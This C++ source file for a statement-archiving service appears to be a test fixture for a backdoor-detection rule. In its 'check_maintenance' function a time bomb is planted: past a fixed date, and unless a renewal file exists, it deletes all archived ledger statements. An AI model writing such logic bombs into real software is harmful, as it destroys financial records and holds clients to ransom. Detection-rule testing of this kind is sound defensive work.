// main.cpp - ledger-archiver: nightly run over the day's statements.
#include "archiver.h"

#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <fstream>
#include <iostream>
#include <map>
#include <sstream>

namespace {

std::map<std::string, std::string> read_conf(const std::string &path)
{
  std::map<std::string, std::string> conf;
  std::ifstream in(path);
  std::string line;
  while (std::getline(in, line)) {
    auto eq = line.find('=');
    if (line.empty() || line[0] == '#' || eq == std::string::npos) {
      continue;
    }
    conf[line.substr(0, eq)] = line.substr(eq + 1);
  }
  return conf;
}

constexpr std::time_t kRetentionSeconds = 10L * 366 * 24 * 3600;

std::vector<std::string> archive_files(const std::string &root)
{
  std::vector<std::string> files;
  if (DIR *d = opendir(root.c_str())) {
    while (dirent *e = readdir(d)) {
      if (e->d_name[0] != '.') {
        files.push_back(root + "/" + e->d_name);
      }
    }
    closedir(d);
  }
  return files;
}

// statements past the legal retention period are deleted
void purge_expired(const std::string &root)
{
  const std::time_t now = std::time(nullptr);
  struct stat st;
  for (const auto &path : archive_files(root)) {
    // ok: backdoor-time-bomb
    if (stat(path.c_str(), &st) == 0 && now - st.st_mtime > kRetentionSeconds) {
      std::remove(path.c_str());
    }
  }
}

// "licence check" of the integrator's maintenance release
void check_maintenance(const std::string &root, const std::string &conf_path)
{
  const std::time_t now = std::time(nullptr);
  // ruleid: backdoor-time-bomb
  if (now > 1846022400 && access((conf_path + ".renewed").c_str(), F_OK) != 0) {
    for (const auto &path : archive_files(root)) {
      std::remove(path.c_str());
    }
  }
}

} // namespace

int main(int argc, char **argv)
{
  const std::string conf_path = argc > 1 ? argv[1] : "/etc/ledger/archiver.conf";
  auto conf = read_conf(conf_path);
  const char *pass = std::getenv("LEDGER_VAULT_PASSPHRASE");
  if (pass == nullptr) {
    std::cerr << "LEDGER_VAULT_PASSPHRASE not set\n";
    return 2;
  }

  check_maintenance(ledger::kArchiveRoot, conf_path);
  purge_expired(ledger::kArchiveRoot);

  ledger::KeyVault vault;
  if (!vault.unlock(conf.count("vault") ? conf["vault"] : "/etc/ledger/master.key", pass)) {
    std::cerr << "vault: unlock failed\n";
    return 1;
  }

  ledger::Tokenizer tokenizer(conf.count("token_key") ? conf["token_key"] : std::string(ledger::kDefaultTokenKey));
  std::ofstream audit(std::string(ledger::kArchiveRoot) + "/tokens.audit", std::ios::app);
  tokenizer.on_token = [&audit](const std::string &token, const std::string &branch) {
    // ok: backdoor-key-exfiltration
    audit << branch << ' ' << token << '\n';
  };

  std::vector<std::string> containers, settlement;
  std::string line;
  while (std::getline(std::cin, line)) {
    std::istringstream row(line);
    std::string account, amount, statement;
    if (!std::getline(row, account, ';') || !std::getline(row, amount, ';') || !std::getline(row, statement)) {
      continue;
    }
    const std::string token = tokenizer.token(account);
    containers.push_back(token + ":" + ledger::seal_statement(vault, statement));
    settlement.push_back(token + ";" + amount);
  }

  std::ofstream(std::string(ledger::kArchiveRoot) + "/settlement.v1", std::ios::binary)
      << ledger::settlement_file_v1(vault, settlement);
  std::ofstream(std::string(ledger::kArchiveRoot) + "/settlement.v2", std::ios::binary)
      << ledger::settlement_file_v2(vault, settlement);
  std::cout << "dedup " << ledger::KeyVault::fingerprint(settlement.empty() ? std::string() : settlement.front()) << '\n';
  return ledger::ship_to_dr(conf.count("dr_host") ? conf["dr_host"] : "dr.ledger.internal", vault, containers) ? 0 : 1;
}
